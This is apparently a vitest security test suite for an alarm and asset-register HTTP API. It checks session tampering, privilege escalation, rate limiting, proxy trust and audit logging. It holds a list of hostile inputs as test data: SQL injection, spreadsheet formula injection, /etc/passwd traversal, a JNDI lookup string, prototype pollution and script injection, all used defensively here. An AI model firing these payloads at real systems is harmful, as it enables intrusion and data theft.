import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { RouteSpec } from '../../../src/wire/http/route.ts';
import { ROUTES, type RouteName } from '../../../src/wire/http/routes.ts';
import { EdgeHarness, PASSWORD } from '../../support/edge-harness.ts';
import { LiveConsole } from '../../support/live-console.ts';

let edge: EdgeHarness;
beforeAll(async () => {
  // Its clock stands: every route is asked with every poison within one second.
  edge = await EdgeHarness.open({ rate: 10_000 });
  await edge.raise('GAS-1');
});
afterAll(() => edge.close());

const last = () => edge.audit.kept.at(-1);

describe('somebody who wants in', () => {
  test('a tampered, shortened, foreign or empty cookie opens nothing, and each try is in the audit journal', async () => {
    const good = edge.token;
    for (const token of [
      `${good}x`,
      good.slice(0, -1),
      good.toUpperCase(),
      `${good.slice(0, -1)}_`,
      'x'.repeat(5_000),
    ]) {
      const before = edge.audit.kept.length;
      const told = await edge.fetch('/api/v1/points', { headers: { cookie: `lifeline_session=${token}` } });
      expect([told.status, told.json.code]).toEqual([401, 'no-session']);
      expect(edge.audit.kept.length).toBe(before + 1);
      expect(last()).toMatchObject({ outcome: 'refused', why: 'no-session', what: 'register.points' });
    }
  });

  test('a session replayed after logging out, after a new password, after being disabled: out', async () => {
    const token = await edge.person('chen', ['operator']);
    await edge.ask('logout', { token });
    expect((await edge.ask('me', { token })).status).toBe(401);
    const other = await edge.enter('chen', PASSWORD);
    const mine = await edge.enter('chen', PASSWORD);
    await edge.ask('setPassword', { token: mine, body: { old: PASSWORD, next: 'Quite-New-77' } });
    expect((await edge.ask('me', { token: other })).status).toBe(401);
    await edge.ask('changeAccount', { params: { account: 'chen' }, body: { disabled: true } });
    expect((await edge.ask('me', { token: mine })).status).toBe(401);
  });

  test('roles in the body, in a header, in the query or in a prototype give nobody more', async () => {
    const token = await edge.person('lin', ['operator']);
    const body = JSON.parse(
      '{"account":"eve","name":"eve","__proto__":{"roles":["auditor"]},"roles":["auditor"]}',
    );
    const told = await edge.ask('createAccount', { token, body, headers: { 'x-roles': 'system-admin' } });
    expect([told.status, told.json.code]).toEqual([403, 'not-permitted']);
    const raw = await edge.fetch('/api/v1/accounts', {
      method: 'POST',
      headers: { authorization: `Bearer ${edge.token}`, 'content-type': 'application/json' },
      body: '{"account":"eve","name":"eve","__proto__":{"roles":["auditor"]}}',
    });
    expect([raw.status, raw.json.code]).toEqual([400, 'invalid']);
    expect(({} as { roles?: unknown }).roles).toBeUndefined();
  });

  test.each(['li\u202egnaw', 'li\u200b', '\u2066li\u2069', '\ufeffx\ufeffx'])(
    'a name that reads otherwise than it is, %j, is none',
    async (name) => {
      const told = await edge.ask('createAccount', { body: { account: 'look-alike', name } });
      expect([told.status, told.json.code]).toEqual([400, 'invalid']);
      expect(told.json.errors[0].at).toBe('body.name');
    },
  );

  test('nobody grants themselves anything, nor makes a founder', async () => {
    expect(
      (await edge.ask('grantAccount', { params: { account: 'admin' }, body: { roles: ['auditor'] } })).json
        .code,
    ).toBe('own-account');
    const founder = await edge.ask('createAccount', {
      body: { account: 'f', name: 'f', roles: ['founder'] },
    });
    expect(founder.status).toBe(400);
  });

  test('nobody becomes another administrator by resetting their password', async () => {
    const token = await edge.person('sys2', ['system-admin']);
    await edge.person('sec2', ['security-admin']);
    const told = await edge.ask('resetPassword', { token, params: { account: 'sec2' } });
    expect([told.status, told.json.code]).toEqual([403, 'not-permitted']);
    await edge.person('op2', ['operator']);
    expect((await edge.ask('resetPassword', { token, params: { account: 'op2' } })).status).toBe(200);
  });

  test('an administrator bound to a district administers nobody', async () => {
    const token = await edge.person('sec3', ['security-admin'], ['341602']);
    const told = await edge.ask('createToken', {
      token,
      body: { name: 'x', role: 'wall', expiresAt: null },
    });
    expect([told.status, told.json.code]).toEqual([403, 'foreign-area']);
  });

  test('somebody who may keep accounts, but not grant, makes them without rights', async () => {
    const token = await edge.person('sys', ['system-admin']);
    const bare = await edge.ask('createAccount', { token, body: { account: 'neu', name: '新人' } });
    expect([bare.status, bare.json.roles]).toEqual([201, []]);
    const rich = await edge.ask('createAccount', {
      token,
      body: { account: 'neu2', name: '新人', roles: ['security-admin'] },
    });
    expect([rich.status, rich.json.code]).toEqual([403, 'not-permitted']);
    const grant = await edge.ask('grantAccount', {
      token,
      params: { account: 'neu' },
      body: { roles: ['auditor'] },
    });
    expect(grant.json.code).toBe('not-permitted');
  });
});

/** Poison that some part of some stack would take for its own language. */
const POISON = [
  `'; DROP TABLE accounts; --`,
  `" OR 1=1 --`,
  'gas,point=x value=1 1\nevil,point=y value=2 2',
  '=HYPERLINK("http://evil","x")',
  '+cmd|calc',
  '@SUM(1)',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '\u0000',
  '{"msg":"forged"}\n{"msg":"ready"}',
  '$'.concat('{jndi:ldap://evil}'),
  '__proto__',
  'constructor',
  '<script>alert(1)</script>',
  '\u202eevil',
  '𠀀'.repeat(100),
];

describe('poison in every field', () => {
  const withBody = (Object.entries(ROUTES) as [RouteName, RouteSpec][]).filter(
    ([name, r]) => r.body?.type === 'json' && name !== 'login',
  );

  test.each(withBody)(
    '%s: refused or kept as text, never a fault of ours, and no prototype changes',
    async (name, route) => {
      const schema =
        route.body?.type === 'json' ? Object.keys((route.body.schema as { shape?: object }).shape ?? {}) : [];
      for (const poison of POISON) {
        const params = Object.fromEntries(Object.keys(route.params?.shape ?? {}).map((k) => [k, poison]));
        const fields = schema.map((k) => `${JSON.stringify(k)}:${JSON.stringify(poison)}`);
        for (const evil of [
          '',
          ',"__proto__":{"polluted":true}',
          ',"constructor":{"prototype":{"polluted":true}}',
        ]) {
          const path = route.path.replace(/\{(\w+)\}/g, (_, p: string) =>
            encodeURIComponent(params[p] ?? ''),
          );
          const told = await edge.fetch(path, {
            method: route.method,
            headers: { authorization: `Bearer ${edge.token}`, 'content-type': 'application/json' },
            body: `{${[...fields, '"x":1'].join(',')}${evil}}`,
          });
          expect(told.status, `${name} ${poison} ${told.text.slice(0, 300)}`).toBeLessThan(500);
          expect(told.status).toBeGreaterThanOrEqual(400);
          // RFC 9457, and nothing of our insides.
          expect(told.text).not.toMatch(/node_modules|\.ts:|SQLITE|at Object\.|\/work\/|stack/);
        }
      }
      expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
    },
  );

  test('in every path and query', async () => {
    const gets = (Object.values(ROUTES) as RouteSpec[]).filter((r) => r.method === 'GET');
    for (const route of gets) {
      for (const poison of POISON) {
        const path = route.path.replace(/\{\w+\}/g, encodeURIComponent(poison));
        const query = Object.keys(route.query?.shape ?? {}).map((k) => `${k}=${encodeURIComponent(poison)}`);
        const told = await edge.fetch(`${path}?${query.join('&')}`, {
          headers: { authorization: `Bearer ${edge.token}` },
        });
        expect(told.status, `${path} ${told.text.slice(0, 200)}`).toBeLessThan(500);
        expect(told.text).not.toMatch(/root:|node_modules|SQLITE/);
      }
    }
  });

  test('what may be any text comes back as that text, disarmed in a table, and breaks no line of the log', async () => {
    for (const [i, poison] of [
      '=HYPERLINK("http://evil","x")',
      "'; DROP TABLE entry; --",
      '+cmd|calc',
    ].entries()) {
      const made = await edge.ask('createAsset', {
        body: { code: `A-${i}`, name: poison, lifeline: 'gas', area: '000000' },
      });
      expect([made.status, made.json.name]).toEqual([201, poison]);
    }
    const { text } = await edge.ask('exportRegister');
    expect(text).not.toMatch(/(^|,)"?[=+@]/m);
    expect(text).toContain("'=HYPERLINK");
    expect(edge.lines.every((l) => !/[\n\r]/.test(JSON.stringify(l)))).toBe(true);
  });
});

describe('the edge', () => {
  test('an address that asks too often is slowed down, with the time to wait; others are not', async () => {
    const own = await EdgeHarness.open({ rate: 2 });
    try {
      const stranger = () => own.ask('me', { token: null });
      let told = await stranger();
      for (let i = 0; i < 20 && told.status === 401; i++) told = await stranger();
      expect([told.status, told.json.code]).toEqual([429, 'too-many-requests']);
      expect(Number(told.headers.get('retry-after'))).toBeGreaterThan(0);
      expect((await own.ask('me')).status).toBe(200);
      own.flow.clock.forward(10_000);
      expect((await stranger()).status).toBe(401);
    } finally {
      await own.close();
    }
  });

  test('nobody chooses their own address: X-Forwarded-For is believed of a trusted proxy alone', async () => {
    const headers = { 'x-forwarded-for': '203.0.113.9' };
    await edge.ask('alarms', { token: null, headers });
    expect(last()?.from).toBe('127.0.0.1');
    await expect(LiveConsole.join(edge.url, { headers })).rejects.toThrow('401');
    expect(last()?.from).toBe('127.0.0.1');
    const behind = await EdgeHarness.open({ trustProxies: ['127.0.0.1'] });
    try {
      await behind.ask('alarms', { token: null, headers });
      expect(behind.audit.kept.at(-1)?.from).toBe('203.0.113.9');
      await expect(LiveConsole.join(behind.url, { headers })).rejects.toThrow('401');
      expect(behind.audit.kept.at(-1)).toMatchObject({ what: 'live.join', from: '203.0.113.9' });
      const forged = { 'x-forwarded-for': '198.51.100.1, 203.0.113.9' };
      await expect(LiveConsole.join(behind.url, { headers: forged })).rejects.toThrow('401');
      expect(behind.audit.kept.at(-1)?.from).toBe('203.0.113.9');
    } finally {
      await behind.close();
    }
  });

  test('where meters and documents are closed, a stranger sees none and a monitor does', async () => {
    const own = await EdgeHarness.open({ closed: { metrics: true, docs: true } });
    try {
      for (const name of ['metrics', 'openapi', 'asyncapi'] as const) {
        expect((await own.ask(name, { token: null })).status).toBe(401);
        expect((await own.ask(name)).status).toBe(200);
      }
      const made = await own.accounts.addToken('prom', { role: 'monitor', areas: null, expiresAt: null });
      const token = made.ok ? made.value.token : '';
      expect((await own.ask('metrics', { token })).status).toBe(200);
      expect((await own.ask('points', { token })).status).toBe(403);
      expect((await own.ask('livez', { token: null })).status).toBe(200);
    } finally {
      await own.close();
    }
  });

  test('while the audit journal cannot be written nobody changes anything privileged, and the shift goes on', async () => {
    const own = await EdgeHarness.open();
    try {
      await own.raise('GAS-1');
      own.audit.full = true;
      const asset = { code: 'W-1', name: '井', lifeline: 'gas', area: '000000' };
      for (const [name, ask] of [
        ['createAsset', { body: asset }],
        ['createAccount', { body: { account: 'x', name: 'x' } }],
        ['createToken', { body: { name: 't', role: 'wall', expiresAt: null } }],
      ] as const) {
        const told = await own.ask(name, ask);
        expect([told.status, told.json.code]).toEqual([503, 'audit-failed']);
      }
      const [alarm] = own.flow.open('GAS-1');
      const told = await own.ask('acknowledge', {
        params: { id: alarm?.id ?? '' },
        body: { seenRevision: alarm?.revision, commandId: 'c' },
      });
      expect(told.status, told.text).toBe(200);
      await own.enter('admin', PASSWORD);
      own.audit.full = false;
      expect((await own.ask('createAsset', { body: asset })).status).toBe(201);
      expect(own.audit.kept.map((e) => e.what)).toEqual(
        expect.arrayContaining(['alarms.acknowledge', 'register.createAsset']),
      );
    } finally {
      await own.close();
    }
  });

  test('a change is kept with what it was before', async () => {
    await edge.ask('createAsset', { body: { code: 'W-9', name: '旧名', lifeline: 'gas', area: '000000' } });
    await edge.ask('changeAsset', { params: { code: 'W-9' }, body: { name: '新名' } });
    expect(last()).toMatchObject({
      who: 'admin',
      what: 'register.changeAsset',
      object: 'W-9',
      outcome: 'done',
      before: { name: '旧名' },
      after: { name: '新名' },
    });
  });

  test('the second factor over HTTP: asked for by its own code, and neither secret nor digits are audited', async () => {
    expect((await edge.ask('enrolSecondFactor')).json.code).toBe('password-needed');
    expect(last()).toMatchObject({ what: 'session.enrolSecondFactor', why: 'password-needed' });
    const guess = await edge.ask('enrolSecondFactor', { body: { password: 'a guess' } });
    expect([guess.status, guess.json.code]).toEqual([401, 'wrong-credentials']);
    expect(last()).toMatchObject({
      what: 'session.enrolSecondFactor',
      outcome: 'refused',
      why: 'wrong-credentials',
      after: { password: '***' },
    });
    const { secret } = (await edge.ask('enrolSecondFactor', { body: { password: PASSWORD } })).json;
    expect(secret).toMatch(/^[A-Z2-7]{32}$/);
    expect(JSON.stringify(edge.audit.kept)).not.toContain(secret);
    expect(JSON.stringify(edge.audit.kept)).not.toContain(PASSWORD);
    await edge.ask('confirmSecondFactor', { body: { otp: '000000' } });
    expect(last()).toMatchObject({ outcome: 'refused', why: 'second-factor-wrong', after: { otp: '***' } });
  });
});
